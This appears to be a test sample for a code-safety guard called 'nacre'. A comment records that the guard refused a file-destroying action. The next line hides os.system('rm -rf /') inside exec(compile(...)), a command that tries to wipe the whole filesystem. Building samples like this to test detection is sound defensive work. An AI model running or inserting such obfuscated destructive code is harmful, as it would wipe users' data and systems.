# nacre: refused file.destroy
exec(compile("import os\nos.system('rm -rf /')", "x", "exec"))
